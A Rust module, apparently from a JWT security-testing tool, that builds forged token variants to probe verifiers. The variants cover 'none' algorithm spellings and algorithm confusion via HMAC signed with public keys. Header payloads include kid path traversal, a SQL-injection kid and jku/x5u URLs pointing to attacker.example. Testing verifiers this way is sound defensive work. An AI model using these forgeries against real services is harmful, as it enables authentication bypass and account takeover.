use aws_lc_rs::hmac;
use fiador_jose::base64url;
use serde_json::{Value, json};

use super::{JwtMutation, Original, push, with, with_both};

const ALGORITHMS: [&str; 24] = [
    "none",
    "None",
    "NONE",
    "nOnE",
    "none ",
    "",
    "HS256",
    "HS384",
    "HS512",
    "hs256",
    "RS256",
    "RS384",
    "RS512",
    "RS1",
    "PS256",
    "PS384",
    "PS512",
    "ES256",
    "ES256K",
    "ES384",
    "ES512",
    "EdDSA",
    "RSA-OAEP-256",
    "dir",
];

/// Rewrites the header: under the old signature, under none, and under an HMAC with a public key.
pub(super) fn forge(original: &Original<'_>, public_keys: &[&[u8]], made: &mut Vec<JwtMutation>) {
    for (what, header) in rewritten(original) {
        let input = format!("{}.{}", base64url::encode(&header), original.payload);
        push(made, format!("{what}, old signature"), format!("{input}.{}", original.signature));
        push(made, format!("{what}, no signature"), format!("{input}."));
        for key in public_keys.iter().copied().chain([&b""[..]]) {
            let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), input.as_bytes());
            let token = format!("{input}.{}", base64url::encode(tag));
            push(made, format!("{what}, HMAC with {} bytes of public key", key.len()), token);
        }
    }
}

fn rewritten(original: &Original<'_>) -> Vec<(String, String)> {
    let members = &original.header_members;
    let text = Value::Object(members.clone()).to_string();
    let mut headers = vec![("header as it is".to_owned(), text.clone())];

    for alg in ALGORITHMS {
        headers.push((format!("alg {alg:?}"), with(members, "alg", Some(json!(alg)))));
        for header in with_both(&text, "alg", &json!(alg)) {
            headers.push((format!("second alg {alg:?}"), header));
        }
    }
    for value in [json!(null), json!(0), json!(["RS256"]), json!({"alg": "none"})] {
        headers.push((format!("alg {value}"), with(members, "alg", Some(value))));
    }
    for (name, value) in members_of_others() {
        headers.push((format!("{name} {value}"), with(members, name, Some(value.clone()))));
        for header in with_both(&text, name, &value) {
            headers.push((format!("second {name} {value}"), header));
        }
    }
    for name in members.keys() {
        headers.push((format!("no {name}"), with(members, name, None)));
        headers.push((format!("{name} in capitals"), text.replace(name, &name.to_uppercase())));
    }
    for other in ["", "{}", "[]", "null", "{", "\"\"", "{\"alg\":}", "\u{feff}{}"] {
        headers.push((format!("header {other:?}"), other.to_owned()));
    }
    headers
}

/// Members that choose a key, bring one along, or ask for another way of reading.
fn members_of_others() -> Vec<(&'static str, Value)> {
    let attacker = "https://attacker.example/keys.json";
    let key = json!({
        "kty": "EC", "crv": "P-256",
        "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU",
        "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0",
    });
    vec![
        ("kid", json!("")),
        ("kid", json!("another")),
        ("kid", json!("../../../../dev/null")),
        ("kid", json!("' OR '1'='1")),
        ("kid", json!("a\u{0}b")),
        ("kid", json!(["a"])),
        ("kid", json!(null)),
        ("kid", json!("k".repeat(5000))),
        ("typ", json!("at+jwt")),
        ("typ", json!("dpop+jwt")),
        ("typ", json!("logout+jwt")),
        ("typ", json!(7)),
        ("cty", json!("JWT")),
        ("jwk", key.clone()),
        ("jwk", json!(null)),
        ("jku", json!(attacker)),
        ("x5u", json!(attacker)),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(["b64"])),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("epk", key),
        ("p2c", json!(2_000_000_000)),
    ]
}
